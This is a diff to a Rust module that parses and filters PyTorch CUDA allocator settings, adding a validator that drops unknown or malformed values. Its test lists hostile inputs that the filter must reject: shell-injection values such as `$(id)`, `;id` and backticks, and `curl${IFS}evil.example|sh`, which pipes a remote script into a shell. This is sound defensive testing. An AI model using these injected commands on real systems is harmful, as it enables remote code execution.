@@ -2,12 +2,14 @@
 //! settings that Memtape sets.
 //!
 //! The text is a list of `key:value`, separated by commas; a value may be a list in brackets. A
-//! [`Config`] keeps each value as it came. A [`Setting`] is typed: only a [`Setting`] is ever set.
-//! [`merge`] adds settings to a user's text, and never changes the user's settings.
+//! [`Config`] keeps each value as it came. [`known`] leaves out what PyTorch has not. A [`Setting`]
+//! is typed: only a [`Setting`] is ever set. [`merge`] adds settings to a user's text, and never
+//! changes the user's settings.
 //!
 //! `garbage_collection_threshold` is no [`Setting`]: PyTorch uses it only where the program has
 //! called `set_per_process_memory_fraction`, which no tape shows.
 
+use alloc::format;
 use alloc::string::{String, ToString};
 use alloc::vec::Vec;
 use core::fmt::{self, Display, Formatter};
@@ -29,6 +31,73 @@ pub(crate) const ROUNDING: Setting = Setting::RoundupPower2Divisions(8);
 
 /// Key of the setting that switches expandable segments on.
 const EXPANDABLE: &str = "expandable_segments";
+
+/// Form of a value.
+#[derive(Clone, Copy)]
+enum Form {
+    Number,
+    Switch,
+    Backend,
+    /// A number, or numbers by size: `[256:1,512:2,>:8]`.
+    Divisions,
+}
+
+/// Settings of PyTorch's allocator.
+const KNOWN: [(&str, Form); 16] = [
+    ("backend", Form::Backend),
+    (EXPANDABLE, Form::Switch),
+    ("garbage_collection_threshold", Form::Number),
+    ("graph_capture_record_stream_reuse", Form::Switch),
+    ("large_segment_size_mb", Form::Number),
+    ("max_non_split_rounding_mb", Form::Number),
+    ("max_split_size_mb", Form::Number),
+    ("per_process_memory_fraction", Form::Number),
+    ("pinned_max_round_threshold_mb", Form::Number),
+    ("pinned_num_register_threads", Form::Number),
+    ("pinned_reserve_segment_size_mb", Form::Number),
+    ("pinned_use_background_threads", Form::Switch),
+    ("pinned_use_cuda_host_register", Form::Switch),
+    ("release_lock_on_cudamalloc", Form::Switch),
+    ("roundup_power2_divisions", Form::Divisions),
+    ("throw_on_cudamalloc_oom", Form::Switch),
+];
+
+impl Form {
+    fn has(self, value: &str) -> bool {
+        let is_number = |text: &str| {
+            !text.is_empty() && text.chars().all(|mark| mark.is_ascii_digit() || mark == '.')
+        };
+        match self {
+            Self::Number => is_number(value),
+            Self::Switch => is_on(value) || value.eq_ignore_ascii_case("false"),
+            Self::Backend => matches!(value, "native" | "cudaMallocAsync"),
+            Self::Divisions => {
+                let listed = value.strip_prefix('[').and_then(|rest| rest.strip_suffix(']'));
+                let is_pair = |part: &str| {
+                    let pair = part.split_once(':');
+                    pair.is_some_and(|(size, of)| (size == ">" || is_number(size)) && is_number(of))
+                };
+                listed.map_or(is_number(value), |all| all.split(',').all(is_pair))
+            }
+        }
+    }
+}
+
+/// The settings of a text that PyTorch has, with values of their form; and how many other parts
+/// the text has. Anybody may have written the text.
+pub fn known(text: &str) -> (String, u64) {
+    let is_known = |part: &(String, String)| {
+        KNOWN.iter().any(|(key, form)| *key == part.0 && form.has(&part.1))
+    };
+    let kept: Vec<String> = Config::parse(text)
+        .pairs
+        .into_iter()
+        .filter(is_known)
+        .map(|(key, value)| format!("{key}:{value}"))
+        .collect();
+    let parts = parts(text).filter(|part| !part.trim().is_empty()).count();
+    (kept.join(","), parts.saturating_sub(kept.len()) as u64)
+}
 
 /// One setting of the allocator that Memtape suggests and sets.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
@@ -104,21 +173,12 @@ pub struct Config {
 impl Config {
     /// Reads a text; parts that are no `key:value` are left out.
     pub fn parse(text: &str) -> Self {
-        let mut depth = 0_usize;
-        let parts = text.split(|c: char| {
-            match c {
-                '[' => depth += 1,
-                ']' => depth = depth.saturating_sub(1),
-                _ => {}
-            }
-            c == ',' && depth == 0
-        });
         let pair = |part: &str| {
             let (key, value) = part.split_once(':')?;
             let (key, value) = (key.trim(), value.trim());
             (!key.is_empty()).then(|| (key.to_string(), value.to_string()))
         };
-        Self { pairs: parts.filter_map(pair).collect() }
+        Self { pairs: parts(text).filter_map(pair).collect() }
     }
 
     /// The value of a key; of several the last one, as in PyTorch.
@@ -136,6 +196,19 @@ impl Config {
     pub(crate) fn is_foreign(&self) -> bool {
         self.get("backend").is_some_and(|backend| backend != "native")
     }
+}
+
+/// The parts of a text; a list in brackets is of one part.
+fn parts(text: &str) -> impl Iterator<Item = &str> {
+    let mut depth = 0_usize;
+    text.split(move |c: char| {
+        match c {
+            '[' => depth += 1,
+            ']' => depth = depth.saturating_sub(1),
+            _ => {}
+        }
+        c == ',' && depth == 0
+    })
 }
 
 /// Do these settings, as a snapshot of PyTorch lists them, switch `expandable_segments` on?
@@ -203,6 +276,32 @@ mod tests {
         assert!(
             Config::parse("expandable_segments:False,expandable_segments:True").is_expandable()
         );
+    }
+
+    #[test]
+    fn settings_that_pytorch_has_not_are_left_out() {
+        for good in [
+            "",
+            "expandable_segments:True,max_split_size_mb:64",
+            "backend:cudaMallocAsync,garbage_collection_threshold:0.8",
+            "roundup_power2_divisions:[256:1,512:2,>:8],roundup_power2_divisions:8",
+        ] {
+            assert_eq!(known(good), (good.to_string(), 0));
+        }
+        assert_eq!(known(" expandable_segments: true ,"), ("expandable_segments:true".into(), 0));
+        for bad in [
+            "x:1",
+            "max_split_size_mb:1;id",
+            "max_split_size_mb:$(id)",
+            "expandable_segments:",
+            "backend:`id`",
+            "roundup_power2_divisions:[256:1;id]",
+            "roundup_power2_divisions:[256:1,$(id):2]",
+            "curl${IFS}evil.example|sh",
+        ] {
+            let text = format!("{bad},max_split_size_mb:64");
+            assert_eq!(known(&text), ("max_split_size_mb:64".into(), 1), "{bad}");
+        }
     }
 
     #[test]
